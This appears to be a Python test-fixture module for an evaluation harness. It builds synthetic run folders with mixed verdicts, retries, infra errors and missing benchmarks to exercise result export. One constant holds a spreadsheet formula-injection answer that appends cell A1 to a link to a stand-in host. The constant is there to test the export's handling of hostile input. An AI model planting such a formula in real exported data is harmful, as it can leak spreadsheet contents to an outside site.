"""Runs with all that an export may meet: languages, verdicts, retries, hostile answers, missing benchmarks."""

import json
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path

from pydantic import TypeAdapter
from run_folders import record, run_folder

from harness.files import write_json
from harness.journal import RECORDS
from harness.manifest import MANIFEST, Manifest, Session, read_manifest
from harness.records import Answer, Outcome, Record
from harness.results import LeftOut, Missing
from harness.summary import SUMMARY, summarise

LANGUAGES = ("python", "ruby", "go")
HOSTILE = '=HYPERLINK("http://example.com/"&A1,"see")'
"""An answer that is a formula in a spreadsheet."""


def rich_run(root: Path, model: str, passed: int, n: int = 12) -> Path:
    """A run whose first ``passed`` of ``n`` samples passed; one is an infra error, one a retried one, one ran long."""
    folder = run_folder(root, model, {"mbpp": [1.0] * passed + [0.0] * (n - passed), "bigcodebench": [0.0, 1.0]})
    found = read_manifest(folder)
    assert found is not None
    session = Session(
        "2026-01-01T00:00:00.250+00:00", ("evaluate",), {}, {"git_commit": "c0ffee"}, "landlock", {"engine": "vllm"}
    )
    manifest = replace(
        found,
        sessions=(session,),
        left_out=(LeftOut("mbpp", "typescript", 3, "no toolchain", "install node", requested=False),),
        unavailable=(Missing("mmlu", "nlp", "its rows are not here", "evaluate data pull mmlu"),),
    )
    rows = [_rich(record("mbpp", at, float(at < passed)), at, n) for at in range(n)]
    rows += [record("bigcodebench", at, float(at)) for at in range(2)]
    failed = replace(rows[0], verdict=Outcome.INFRA_ERROR, scores={}, answer=None, detail={"reason": "timed out"})
    write(folder, manifest, [failed, *rows])
    return folder


def write(folder: Path, manifest: Manifest, records: Iterable[Record]) -> None:
    """The folder's files anew; of several records of one attempt the last one counts."""
    adapter = TypeAdapter(Record)
    told = list(records)
    write_json(folder / MANIFEST, manifest)
    (folder / RECORDS).write_bytes(b"".join(adapter.dump_json(each) + b"\n" for each in told))
    write_json(folder / SUMMARY, summarise(manifest, {each.key: each for each in told}.values()))


def set_schema(file: Path, version: int) -> None:
    """Makes the file one of another schema, with other fields."""
    file.write_text(json.dumps({"schema": version, "scores": []}))


def _rich(plain: Record, at: int, n: int) -> Record:
    tags = {"language": LANGUAGES[at % 3], "difficulty": "hard" if at % 2 else "easy"}
    length = at == n - 2
    answer = Answer(
        HOSTILE if at == 1 else f"def solve():\n    return {at}\n" * (1 + at),
        "length" if length else "stop",
        100 + at,
        10 * (1 + at),
        0.5 * (1 + at),
        first_token_seconds=None if at % 2 else 0.1,
    )
    if at == n - 1:
        return replace(
            plain, tags=tags, verdict=Outcome.INFRA_ERROR, scores={}, detail={"reason": "the server is gone"}
        )
    detail = {} if plain.verdict is Outcome.PASSED else {"message": f"expected {at}\ngot nothing"}
    return replace(plain, tags=tags, answer=answer, detail=detail)
